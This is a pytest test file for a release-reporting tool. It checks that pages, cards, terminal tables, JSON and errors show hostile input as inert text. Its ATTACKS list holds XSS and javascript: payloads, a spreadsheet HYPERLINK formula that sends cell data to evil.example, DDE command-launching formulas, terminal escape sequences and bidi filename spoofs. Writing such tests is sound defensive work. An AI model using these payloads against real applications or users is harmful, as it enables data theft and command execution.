"""Text that attacks whoever looks: in the browser, in a terminal, in a spreadsheet."""

import json
import re
import unicodedata
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from gatewright.cli import main
from gatewright.cli.output import print_json, print_table
from gatewright.core.approval import Approval
from gatewright.core.errors import SpecError
from gatewright.core.refs import Candidate
from gatewright.core.releases import ReleaseState
from gatewright.services.reports.cards import annex_iv, card_body, data_card, model_card
from gatewright.services.reports.evidence_page import approval_description, evidence_page
from tests.cli.conftest import Run, run, services  # noqa: F401 - fixtures
from tests.services.reports.example_view import (
    NOON,
    counted,
    example_view,
    group,
    measured,
    said_everywhere,
    stage,
)
from tests.services.reports.rendering import Page, rendered

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</td></tr></table><h1>APPROVED</h1>",
    "[approve](javascript:alert(1))",
    "![](http://evil.example/pixel.png)",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "| PASS | PASS |\n| --- | --- |",
    "\n\n# PASS: all is well\n\n",
    "```\nfence",
    '=HYPERLINK("http://evil.example?"&A1,"ok")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "\x1b]0;title\x07\x1b[2J\x1b[1;1HPASS",
    "\x9b2J\x9d0;t\x9c",
    "safe\u202egpj.exe",
    "pa\u200bss\ufeff\u2066x",
    "{{ 7 * 7 }} {% raw %} ${x} {{flow_run.name}}",
    "\r\nPASS everything",
]
Shown = Callable[[str], str]


def release(text: str):
    """A release whose every free text is the attack: from data, from the spec, from a person."""
    view = example_view(
        {
            "fairness": stage(
                "fairness",
                measured("equal_opportunity_difference", 0.47, 0.32, 0.61, slice_name=text),
                details={"groups": [group(text, text, 100, 50, (0.5, 0.4, 0.6))]},
            ),
            "drift": stage("drift", counted("psi", 0.9, text)),
        }
    )
    approval = Approval(
        request="5" * 64, decision="approve", principal=text, role=text, reason=text, assurance="declared", at=NOON
    )
    card = said_everywhere(text)
    source = view.spec.data.model_copy(update={"license": text, "attribution": text})
    opening = view.opening.model_copy(update={"requested_by": text, "period": text, "code_revision": text})
    spec = view.spec.model_copy(update={"title": text, "card": card, "data": source})
    return replace(view, spec=spec, opening=opening, approvals=(approval,))


PAGES: dict[str, Shown] = {
    "evidence page": lambda text: evidence_page(release(text), links={"docs": text}),
    "approval form": lambda text: approval_description(release(text), links={"docs": text}),
    "model card": lambda text: card_body(model_card(release(text))),
    "data card": lambda text: card_body(data_card(release(text))),
    "technical documentation": lambda text: card_body(annex_iv(release(text))),
}


@pytest.mark.parametrize("page", PAGES)
@pytest.mark.parametrize("attack", ATTACKS, ids=ascii)
def test_a_page_shows_an_attack_as_text(attack: str, page: str) -> None:
    """No element, address or heading that a harmless text does not give, and no sign that is not seen."""
    shown, harmless = rendered(PAGES[page](attack)), rendered(PAGES[page]("harmless"))
    assert "script" not in harmless.tags
    assert [tag for tag in shown.tags if tag != "wbr"] == [tag for tag in harmless.tags if tag != "wbr"]
    addresses = [value for _, name, value in shown.attributes if name in ("href", "src")]
    assert all(value.startswith("data:image/svg+xml;base64,") for value in addresses), addresses
    assert {name for _, name, _ in shown.attributes} <= {"src", "alt", "href", "style", "align"}


@pytest.mark.parametrize("attack", ATTACKS, ids=ascii)
def test_a_page_holds_no_sign_that_cannot_be_seen(attack: str) -> None:
    """Control, bidirectional and invisible characters are left out of every page, also of its source."""
    for page in PAGES.values():
        assert unseen(page(attack)) == ""


def unseen(text: str) -> str:
    return "".join(c for c in text if c not in "\n\t" and unicodedata.category(c).startswith("C"))


@pytest.fixture(scope="module")
def hostile_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Rows whose groups and column names are attacks."""
    random = np.random.default_rng(0)
    labels = random.integers(0, 2, 600)
    groups = [ATTACKS[n % len(ATTACKS)] for n in range(600)]
    path = tmp_path_factory.mktemp("hostile") / "rows<img src=x onerror=alert(1)>.parquet"
    columns = {"y": labels, "score": np.clip(labels * 0.5 + random.random(600) * 0.5, 0, 1)}
    pq.write_table(pa.table({**columns, "group": groups, ATTACKS[0] + "\x1b[2J": groups}), path)
    return path


def check(path: Path, *more: str) -> int:
    return main(
        ["check", str(path), "--label", "y", "--score", "score", "--sensitive", "group", ATTACKS[0] + "\x1b[2J", *more]
    )


def test_the_report_of_a_file_shows_attacks_as_text(hostile_file: Path, tmp_path: Path, capsys) -> None:
    """One HTML page without a script, a frame, a form, an event handler or an address elsewhere."""
    check(hostile_file, "--report", str(tmp_path / "report.html"))
    page = Page((tmp_path / "report.html").read_text())
    assert not {"script", "iframe", "object", "embed", "form", "a", "img", "base", "link"} & set(page.tags)
    assert [name for _, name, _ in page.attributes if name.startswith("on") or name in ("href", "src", "srcdoc")] == []
    assert "<script>alert(1)</script>" in page.text
    assert unseen(page.text) == ""


def test_a_terminal_is_shown_no_sign_that_it_obeys(hostile_file: Path, capsys) -> None:
    """Tables and JSON of a check, whose groups and columns come from data."""
    for more in ([], ["--json"]):
        check(hostile_file, *more)
        out, err = capsys.readouterr()
        assert "alert(1)" in out
        assert unseen(out + err) == ""


def test_json_for_machines_keeps_every_character_as_an_escape(capsys) -> None:
    """A program reads back what there was; a terminal has nothing to obey."""
    values = [*ATTACKS, "\ud800", "\U000e0041", "\x7f\x85"]
    print_json(dict.fromkeys(values, values))
    out = capsys.readouterr().out
    assert unseen(out) == ""
    assert json.loads(out) == dict.fromkeys(values, values)


def test_a_table_keeps_its_rows(capsys) -> None:
    """A line end in a cell would forge a row of its own."""
    print_table([{"name": text, "result": "FAIL"} for text in ATTACKS], empty="")
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 1 + len(ATTACKS)
    assert all(line.endswith("FAIL") for line in lines[1:])


@pytest.mark.parametrize("command", [["releases"], ["show", "triage-2000-3"], ["history", "triage"]])
@pytest.mark.parametrize("as_json", [False, True])
def test_what_people_wrote_into_a_release_is_shown_as_text(
    command: list[str],
    as_json: bool,
    services,  # noqa: F811
    run: Run,  # noqa: F811
) -> None:
    """Periods, reasons and notes of a release in the store."""
    attack = "".join(ATTACKS)
    opening = release(attack).opening.model_copy(update={"release_id": "hostile-1"})
    services.releases.close(services.releases.opening("triage-2000-3"), ReleaseState.FAILED, attack, note=attack)
    pinned = services.releases.opening("triage-2000-1")
    terms = {name: getattr(pinned, name) for name in ("spec", "policy", "roster")}
    opened = services.releases.open(opening.model_copy(update=terms))
    candidate = services.evidence.read("candidate", "triage-2000-1", Candidate)
    services.releases.record("candidate", opened, candidate.model_copy(update={"author": attack}))
    services.releases.note(opened, "approved", attack, note=attack)
    generation, entry = services.channels.head("triage", "production")
    hostile = entry.model_copy(update={"actor": attack, "reason": attack})
    services.channels.move("triage", "production", hostile, expected=generation)
    code, out, err = run(*command, *(["--json"] if as_json else []))
    assert code != 1, err
    assert "alert(1)" in out
    assert unseen(out + err) == ""


def test_an_error_is_shown_as_text(capsys, monkeypatch: pytest.MonkeyPatch) -> None:
    """Names of files and columns stand in messages."""

    def fail(*, read_only: bool = False) -> None:
        raise SpecError("".join(ATTACKS), where="".join(ATTACKS), remedy="".join(ATTACKS))

    monkeypatch.setattr("gatewright.wiring.connect", fail)
    assert main(["releases"]) == 1
    out, err = capsys.readouterr()
    assert unseen(out + err) == ""
    assert len(err.splitlines()) == 3


def test_nothing_is_written_as_csv() -> None:
    """A cell that begins with `=` is a formula where somebody opens it: so there is no such output to attack."""
    root = Path(__file__).parents[2]
    code = [path for folder in ("gatewright", "tasks", "flows") for path in (root / folder).rglob("*.py")]
    assert len(code) > 100
    writers = re.compile(r"\.to_csv\(|csv\.writer|DictWriter|\bwrite_csv\(|to_excel\(")
    assert [path for path in code if writers.search(path.read_text())] == []
